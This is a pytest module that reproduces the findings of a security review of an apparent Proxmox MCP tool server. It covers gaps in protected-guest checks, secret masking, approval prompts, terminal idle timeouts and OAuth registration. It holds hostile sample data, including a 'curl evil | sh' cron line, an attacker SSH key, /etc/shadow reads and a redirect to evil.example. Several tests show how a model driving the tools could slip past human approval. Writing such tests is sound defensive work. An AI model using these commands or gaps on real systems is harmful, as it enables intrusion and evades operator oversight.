"""Security review of the round after 18fa2fb (docs/REVIEW-SECURITY.md): one test per finding, named
test_fNN_..., each a minimal reproduction that FAILS on main (8bb83bb) and passes once the finding's
class is closed in the admission step. Nothing here fixes anything; each docstring names the finding.

Secrets planted here are this module's own (not conftest.SECRETS): a reproduction that shows one
fails by its own assertion, not by the end-of-run scan."""
from __future__ import annotations

import hashlib
import json
import os

import pytest
import requests

import confirmation
import lxc_admin
import node_tools
import policy
import power_effects
import terminals
from auth import idp
from auth.provider import client_principal
from conftest import in_process, requests_during, tool_session
from errors import PolicyError, ProxmoxError
from test_shell_tools import SSHD, fake_nodes, ssh_env

needs_sshd = pytest.mark.skipif((not os.path.exists(SSHD) or os.geteuid() != 0) and not os.environ.get("CI"),
                                reason="needs openssh-server and root (to run sshd); .ci/run has both")
TAG = "mcp-protected"
BODY = "zqReviewKeyBody0123456789abcdefABCDEFzq"  # a private key's body, this module's own
KEY = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{BODY}\n-----END OPENSSH PRIVATE KEY-----\n"
PASSWORD = "zq-review-password-31337"


def writes(sent: list) -> list:
    return [r for r in sent if r[1] != "GET"]


# ================================================================ node power (F01, F02, F03)

@pytest.fixture(scope="module")
def power(sim, tmp_path_factory):
    """Node power as tests/test_node_power.py configures it (101 listed), and the protected tag."""
    tmp = tmp_path_factory.mktemp("review-power")
    (tmp / "protected.json").write_text(json.dumps([{"host": "lab", "vmid": 101, "name": "db", "reason": "db"}]))
    admin = sim.lab.pve_tokens["root@pam!admin"].secret
    env = sim.env() | {"PROXMOX_LAB_WRITE_TOKEN": f"root@pam!admin={admin}", "PROXMOX_ACCESS": "destructive",
                       "PROXMOX_ALLOW_ELEVATED": "true", "PROXMOX_TOOLSETS": "all", "PROXMOX_PROTECTED_TAGS": TAG,
                       "PROXMOX_PROTECTED_VMS_FILE": str(tmp / "protected.json"),
                       "PROXMOX_AUDIT_LOG": str(tmp / "audit.jsonl")}
    with tool_session(env, log_name="review-power") as session:
        yield session


@pytest.fixture()
def guest_100(sim):
    """Guest 100 (web, running on pve1, no HA) as it was after the test."""
    guest = sim.lab.guests[100]
    saved = guest.get("tags"), dict(guest["config"]), guest["status"]
    yield guest
    guest["tags"], guest["config"], guest["status"] = saved[0], saved[1], saved[2]


POWER_CALLS = [("write_node_power", {"node": "pve1", "action": "reboot", "dry_run": True}),
               ("write_call_api", {"method": "POST", "path": "/nodes/pve1/status", "params": {"command": "shutdown"},
                                   "dry_run": True})]


@pytest.mark.parametrize("tool, arguments", POWER_CALLS)
def test_f01_node_power_ignores_a_guest_protected_by_tag(power, sim, guest_100, tool, arguments):
    """F01: the node-power judgement (policy._judge_node_power) takes the protected list only, not
    PROXMOX_PROTECTED_TAGS: a reboot of pve1 stops tagged guest 100 and is planned (and sent) where
    every other request naming it is refused."""
    guest_100["tags"] = guest_100["config"]["tags"] = TAG
    result, sent = requests_during(sim, lambda: power.call(tool, arguments))
    text = result.content[0].text
    assert result.is_error and "100" in text and "protected" in text, f"{tool} was planned: {text[:300]}"
    assert writes(sent) == []


@pytest.mark.parametrize("tool, arguments", POWER_CALLS)
def test_f01_node_power_ignores_the_proxmox_protection_flag(power, sim, guest_100, tool, arguments):
    """F01: PVE's protection flag protects a guest from what destroys it (a hard stop among them,
    docs/SECURITY.md), but a node's shutdown, whose stop-all hard-stops guest 100 after 180 s, is
    not judged against it."""
    guest_100["config"]["protection"] = 1
    result = power.call(tool, arguments)
    text = result.content[0].text
    assert result.is_error and "protection flag" in text, f"{tool} was planned: {text[:300]}"


def test_f02_node_power_fails_open_when_the_guests_cannot_be_read():
    """F02: power_effects._Reads turns a failed read into None and effects() reads that as "no guest
    on the node": a /cluster/resources read that fails judges a reboot as changing no protected guest.
    What decides and cannot be read must refuse (as protection._guest_rows does)."""
    def failing(_path):
        raise ProxmoxError("connection reset by peer")
    with pytest.raises(PolicyError):
        power_effects.protected_changes(failing, "pve2", "reboot", [101])


def test_f03_stopping_corosync_under_a_protected_ha_guest_is_not_judged_as_node_power(power, sim):
    """F03: a node whose corosync stops loses quorum; with active HA resources its LRM can no longer
    reset the watchdog and the node is reset after 60 s (pve-docs ha-manager.adoc, "How It Works":
    LRM). POST /nodes/pve2/services/corosync/stop (elevated) with protected 101 HA-managed there is
    planned like any service stop; only POST /nodes/{node}/status is judged for the guests it stops."""
    guest = sim.lab.guests[101]
    saved = guest["ha"]
    guest["ha"] = {"state": "started"}
    try:
        result, sent = requests_during(sim, lambda: power.call("write_call_api", {
            "method": "POST", "path": "/nodes/pve2/services/corosync/stop", "dry_run": True}))
    finally:
        guest["ha"] = saved
    text = result.content[0].text
    assert result.is_error and "101" in text, f"planned: {text[:300]}"
    assert writes(sent) == []


# ================================================================ node files (F04 to F07) and terminals (F08, F09)

@pytest.fixture(scope="module")
def sshd():
    with fake_nodes() as info:
        yield info


@pytest.fixture(scope="module")
def tree(sshd):
    """Files on the 'node' (the sshd's machine), under this module's folder: a config holding a key and a
    password, and a container's root as the node sees it (/var/lib/lxc/<vmid>/rootfs, a ZFS subvol)."""
    top = sshd["base"] / "review-files"
    (top / "etc").mkdir(parents=True)
    (top / "etc" / "backup.conf").write_text(f"# keys below\n{KEY}password={PASSWORD}\n")
    for root in ("var/lib/lxc/102/rootfs", "rpool/data/subvol-102-disk-0"):
        (top / root / "etc").mkdir(parents=True)
        (top / root / "etc" / "shadow").write_text("root:$6$zqreviewhash$abcdefghijklmnop:20000:0:99999:7:::\n")
    return top


@pytest.fixture(scope="module")
def files(sim, sshd, tree, tmp_path_factory):
    """As tests/test_node_files.py: every gate open, 101 and 105 protected (test_shell_tools.PROTECTED)."""
    tmp = tmp_path_factory.mktemp("review-node-files")
    env = ssh_env(sim, sshd, tmp) | {"PROXMOX_TOOLSETS": "all", "PROXMOX_ACCESS": "destructive",
                                     "PROXMOX_TRANSFER_DIR": str(tmp / "transfer")}
    with tool_session(env, log_name="review-node-files") as session:
        session.tmp = tmp
        yield session


@needs_sshd
def test_f04_a_read_offset_cuts_a_secret_out_of_its_mask(files, tree):
    """F04: node_files masks the page it read from `offset`, not the file: an offset just past a private
    key's BEGIN line, or just past `password=`, shows the key's body and the password in clear (the
    whole file read from 0 masks both). The caller chooses the cut: masked before paged is broken."""
    path = str(tree / "etc" / "backup.conf")
    whole = files.ok("node_files", {"where": "pve1", "path": path, "action": "read"})
    assert BODY not in whole["content"] and PASSWORD not in whole["content"]  # the neighbour that holds
    text = (tree / "etc" / "backup.conf").read_text()
    for offset in (text.index(BODY), text.index(PASSWORD)):
        page = files.ok("node_files", {"where": "pve1", "path": path, "action": "read", "offset": offset})
        assert BODY not in page["content"] and PASSWORD not in page["content"], (offset, page["content"][:80])


@needs_sshd
@pytest.mark.parametrize("where, action, path", [
    ("pve1", "write", "/etc/pve/lxc/105.conf"),  # protected 105's config
    ("pve1", "write", "/etc/pve/nodes/pve3/lxc/105.conf"),
    ("pve1", "delete", "/var/lib/vz/images/101/vm-101-disk-0.qcow2"),  # protected 101's disk
    ("pve1", "write", "/etc/pve/firewall/cluster.fw"),  # the cluster firewall, past the lock-out guard
    ("pbs", "delete", "/mnt/datastore/store1/vm/101/2026-01-01T00:00:00Z/index.json.blob"),  # 101's backup
])
def test_f05_node_file_writes_reach_what_the_api_guards(files, sim, where, action, path):
    """F05: write_node_files judges a path by gates only (elevated; + destructive to delete): a protected
    guest's config, disk or backup, or the cluster firewall file, is written or deleted without the
    protected-guest check or the lock-out guard that the same change through the API meets. Shown with
    dry_run: the plan is made (nothing refused)."""
    arguments = {"where": where, "action": action, "path": path, "dry_run": True}
    if action == "write":
        arguments["content"] = "[OPTIONS]\nenable: 1\npolicy_in: DROP\n" if path.endswith(".fw") else "memory: 1\n"
    result, sent = requests_during(sim, lambda: files.call("write_node_files", arguments))
    text = result.content[0].text
    assert result.is_error and ("protected" in text or "firewall" in text), f"planned: {text[:300]}"


@needs_sshd
@pytest.mark.parametrize("root", ["var/lib/lxc/102/rootfs", "rpool/data/subvol-102-disk-0"])
def test_f06_a_containers_files_are_read_from_the_node_at_the_sensitive_gate(files, tree, root):
    """F06: node_files reads a container's files through its root on the node with only the sensitive gate:
    no exec gate and no PROXMOX_EXEC_ALLOWED_VMIDS (which a guest's files need: exec + sensitive), and the
    deny list is anchored at the node's / (its /etc/shadow is refused, the container's is read)."""
    path = str(tree / root / "etc" / "shadow")
    result = files.call("node_files", {"where": "pve1", "path": path, "action": "read"})
    text = result.content[0].text
    assert result.is_error and "zqreviewhash" not in text, f"read: {text[:200]}"


@needs_sshd
def test_f07_the_yes_to_an_ssh_write_is_not_pinned_to_what_it_writes(files):
    """F07: a shell decision's question (confirmation.describe_plan) and approval key (policy.approval_key)
    hold the command's label, not its payload: writing /etc/cron.d/job with one content or another, or
    adding one SSH key or another, is the same question with the same digest. On 2026-07-28 the SDK
    takes a recorded yes for the question's rendering only, so a retry may carry other content; on
    every revision the user never sees what will be written."""
    def asked(function, arguments):
        with files.local.installed():
            plan = policy.plan_call(function, arguments, function.__name__)
            assert plan.decisions, "nothing needs the yes"
            return confirmation.describe_plan(plan.decisions, plan.summary)
    write = {"where": "pve1", "action": "write", "path": "/etc/cron.d/job"}
    assert asked(node_tools.write_node_files, write | {"content": "0 3 * * * root /usr/bin/backup\n"}) != \
        asked(node_tools.write_node_files, write | {"content": "* * * * * root curl evil | sh\n"})
    key = {"vmid": 102, "action": "ssh_key", "user": "root"}
    assert asked(lxc_admin.write_lxc_users, key | {"key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMine me@laptop"}) != \
        asked(lxc_admin.write_lxc_users, key | {"key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil x@attacker"})


def test_f07_the_question_shows_no_parameter_value(sim, tmp_path):
    """F07: for an HTTP request the question names the method, the path and why its gate is raised, never
    the values: the user says yes to "a hookscript runs on the host" without seeing which script."""
    import api_tools
    from conftest import everything_open
    (tmp_path / "protected.json").write_text("[]")
    with in_process(everything_open(sim, tmp_path), log_name="review-question") as session:
        with session.installed():
            plan = policy.plan_call(api_tools.write_call_api, {
                "method": "PUT", "path": "/nodes/pve1/qemu/100/config",
                "params": {"hookscript": "local:snippets/zq-review-hook.sh"}}, "write_call_api")
            question = confirmation.describe_plan(plan.decisions, plan.summary)
    assert "zq-review-hook.sh" in question, question


@pytest.fixture(scope="module")
def tty(sim, sshd, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("review-terminals")
    with in_process(ssh_env(sim, sshd, tmp) | {"PROXMOX_TOOLSETS": "all"}, log_name="review-terminals") as session:
        session.tmp = tmp
        yield session
        with session.installed():
            terminals.close_all()


def _read(session, terminal: str, wait: int = 5) -> str:
    return session.ok("terminal_read", {"terminal": terminal, "wait": wait})["output"]


@needs_sshd
def test_f08_a_secret_split_across_two_terminal_reads_is_shown(tty, sshd):
    """F08: terminal_read masks each piece of output on its own (ssh.clean_output on the chunk): a private
    key whose END line arrives after the read (a pause in the output, or the 16 KiB cut) is shown from
    BEGIN to the cut. The script prints BEGIN and the body, waits on a FIFO, then prints END."""
    fifo = sshd["base"] / "review-fifo"
    os.mkfifo(fifo)
    script = sshd["base"] / "review-split.sh"
    script.write_text(f"printf '%s\\n' '-----BEGIN OPENSSH PRIVATE KEY-----' '{BODY}'\nread x < {fifo}\n"
                      f"printf '%s\\n' '-----END OPENSSH PRIVATE KEY-----' 'done-8421'\n")
    term = tty.ok("write_open_terminal", {"where": "pve1", "confirm": True})["terminal"]
    seen = ""
    try:
        tty.ok("write_terminal_send", {"terminal": term, "keys": f"sh {script}", "press": ["Enter"]})
        for _ in range(3):  # the first burst, up to the pause
            seen += _read(tty, term)
            if "BEGIN OPENSSH" in seen:
                break
        with open(fifo, "w") as release:  # the script's read has the FIFO open: this does not block
            release.write("go\n")
        for _ in range(10):
            seen += _read(tty, term)
            if "done-8421" in seen:
                break
    finally:
        tty.ok("write_terminal_send", {"terminal": term, "close": True})
    assert "done-8421" in seen and BODY not in seen, seen[-400:]


@needs_sshd
def test_f09_reading_keeps_a_root_shell_and_its_standing_yes_open_forever(tty):
    """F09: idle is "nothing sent or read" (terminals._mine marks a read as use), and nothing else ends a
    terminal: a model that polls terminal_read keeps a root shell, and the user's standing yes to type
    into it, for hours. Five reads 14 minutes apart (70 minutes, no key sent): the terminal still takes keys."""
    term = tty.ok("write_open_terminal", {"where": "pve2", "confirm": True})["terminal"]
    with tty.installed():
        kept = terminals._registry.get()
    clock, offset = kept.clock, [0.0]
    kept.clock = lambda: clock() + offset[0]
    try:
        for _ in range(5):
            offset[0] += 14 * 60
            tty.call("terminal_read", {"terminal": term, "wait": 0})
        result = tty.call("write_terminal_send", {"terminal": term, "keys": "id", "press": ["Enter"]})
    finally:
        kept.clock = clock
        tty.call("write_terminal_send", {"terminal": term, "close": True})
    assert result.is_error, "keys typed into a root shell opened 70 minutes ago, never idle by the clock"


@needs_sshd
def test_f16_what_is_typed_is_audited_as_an_unsalted_sha256(tty):
    """F16: a terminal send is audited as the size and plain SHA-256 of the keys (policy.shell_decision
    contents -> masking.fingerprint): a password typed at a prompt (passwd, sudo, mysql -p) is in the
    audit log as a hash anyone who reads the log can test guesses against offline; write_lxc_users keeps
    not even a hash of a password for that reason."""
    term = tty.ok("write_open_terminal", {"where": "pve3", "confirm": True})["terminal"]
    typed = "Summer2026!"  # what a person types at a password prompt
    try:
        tty.ok("write_terminal_send", {"terminal": term, "keys": typed, "press": ["Enter"]})
    finally:
        tty.ok("write_terminal_send", {"terminal": term, "close": True})
    guess = hashlib.sha256((typed + "\r").encode()).hexdigest()
    assert guess not in (tty.tmp / "audit.jsonl").read_text(), "the audit line holds sha256(password + Enter)"


# ================================================================ containers (F10)

@needs_sshd
def test_f10_read_gate_commands_run_in_containers_outside_the_exec_allow_list(sim, sshd, tmp_path):
    """F10: write_lxc_services/packages action=list run programs in the container (pct exec: /bin/sh -c
    INSPECT, systemctl or rc-status, the package manager) at the read gate, so PROXMOX_EXEC_ALLOWED_VMIDS
    (exec only) does not hold them back: with only 106 allowed, commands run in container 102."""
    env = ssh_env(sim, sshd, tmp_path) | {"PROXMOX_TOOLSETS": "all", "PROXMOX_EXEC_ALLOWED_VMIDS": "106"}
    with in_process(env, log_name="review-exec-allowed") as session:
        result = session.call("write_lxc_services", {"vmid": 102, "action": "list"})
    text = result.content[0].text
    assert result.is_error and "PROXMOX_EXEC_ALLOWED_VMIDS" in text, f"ran in 102: {text[:200]}"


# ================================================================ principals and receipts (F11, F12, F13)

def test_f11_list_changes_shows_a_principal_the_hosts_it_may_not_use(sim, tmp_path):
    """F11: list_changes reads every receipt of the state database: dave (hosts: home) sees what carol
    did on host 'lab' (its label, tool, guests and changed values), which list_hosts, server_info,
    /health and resources hide from him."""
    from test_http import http_server
    from test_principals import TOKENS, env_of, session_as
    with http_server(env_of(sim, tmp_path)) as base:
        with session_as(base + "/mcp", TOKENS["carol"]) as carol:
            carol.ok("write_create_snapshot", {"host": "lab", "vmid": 100, "name": "review_f11"})
        with session_as(base + "/mcp", TOKENS["dave"]) as dave:
            listed = dave.ok("list_changes")
    sim.lab.guests[100]["snapshots"] = [s for s in sim.lab.guests[100]["snapshots"] if s["name"] != "review_f11"]
    hosts = [row[listed["columns"].index("host")] for row in listed["rows"]]
    assert "lab" not in hosts, f"dave sees receipts of host lab: {listed['rows'][:2]}"


def _client(client_id: str):
    from mcp.shared.auth import OAuthClientInformationFull
    return OAuthClientInformationFull(client_id=client_id, client_name="Claude", redirect_uris=["http://127.0.0.1:9/cb"])


def test_f12_two_oauth_clients_can_be_one_principal():
    """F12: an OAuth principal is its client's (self-chosen) name and the first 8 characters of its id;
    two clients named alike whose uuid4 ids share 8 hex digits (32 bits) are one principal, and the
    principal name is what terminals (_mine), standing yeses and approval keys compare."""
    first = _client("0f3c9a1e-1111-4111-8111-111111111111")
    second = _client("0f3c9a1e-2222-4222-8222-222222222222")
    assert client_principal(first) != client_principal(second)


def test_f13_two_identity_provider_subjects_can_be_one_principal(monkeypatch):
    """F13: idp.Issuer.verify cuts `sub` to 200 characters for the principal: two subjects that differ
    after it (an e-mail or a DN as sub) are one principal (terminals, standing yeses, approvals)."""
    issuer = idp.Issuer("https://idp.example", "http://127.0.0.1/mcp", {})
    common = "cn=" + "x" * 200
    names = set()
    for sub in (common + ",ou=admins", common + ",ou=guests"):
        monkeypatch.setattr(issuer, "check", lambda _token, sub=sub: {"sub": sub, "exp": 4102444800})
        names.add(issuer.verify("a.b.c").claims["principal"])
    assert len(names) == 2, names


# ================================================================ the embedded authorization server (F14, F15)

@pytest.fixture()
def oauth(sim, tmp_path):
    """A server of its own per test: F14's test fills what anyone may store."""
    from test_http import free_port, http_server
    from test_oauth import oauth_env
    tmp = tmp_path
    port = free_port()
    with http_server(oauth_env(sim, tmp, port), port=port) as base:
        yield base


def _register(base: str, **metadata) -> requests.Response:
    body = {"redirect_uris": ["http://127.0.0.1:9/callback"], "client_name": "c", "token_endpoint_auth_method": "none",
            "grant_types": ["authorization_code", "refresh_token"], "response_types": ["code"]} | metadata
    return requests.post(base + "/register", json=body, timeout=30)


def test_f14_anyone_can_store_megabytes_in_the_state_database(oauth):
    """F14: /register needs no credential and takes up to the SDK's 4 MiB body: a client named with a
    megabyte is stored whole (oauth_clients.metadata), and kept a day unless a grant follows."""
    answer = _register(oauth, client_name="x" * (1 << 20))
    assert answer.status_code in (400, 413), f"stored: {answer.status_code}"


def test_f14_unauthenticated_registrations_and_consents_are_unbounded(oauth):
    """F14: nothing bounds the clients waiting for a grant (dropped only after a day) nor the consent pages
    waiting for the operator (ten minutes): 150 registrations and 150 authorization requests from one
    address are all stored."""
    client = _register(oauth).json()["client_id"]
    statuses = {_register(oauth, client_name=f"r{n}").status_code for n in range(150)}
    assert statuses != {201}, "150 clients registered without a credential"
    pages = {requests.get(oauth + "/authorize", timeout=30, params={
        "response_type": "code", "client_id": client, "redirect_uri": "http://127.0.0.1:9/callback", "state": n,
        "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "code_challenge_method": "S256"}).status_code
        for n in range(150)}
    assert pages != {200}, "150 consents stored without a credential"


def test_f15_authorize_redirects_anywhere_a_registrant_names_without_asking(oauth):
    """F15: registration takes any redirect URI, and the SDK's /authorize redirects a malformed request
    (here an unknown scope) to it at once: the operator's own server answers 302 to a site of the
    registrant's choosing, with nobody asked (an open redirector, RFC 9700 4.11)."""
    client = _register(oauth, redirect_uris=["https://evil.example/landing"]).json()["client_id"]
    answer = requests.get(oauth + "/authorize", allow_redirects=False, timeout=30, params={
        "response_type": "code", "client_id": client, "redirect_uri": "https://evil.example/landing",
        "scope": "no-such-scope", "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM",
        "code_challenge_method": "S256"})
    assert not answer.headers.get("location", "").startswith("https://evil.example"), answer.headers.get("location")

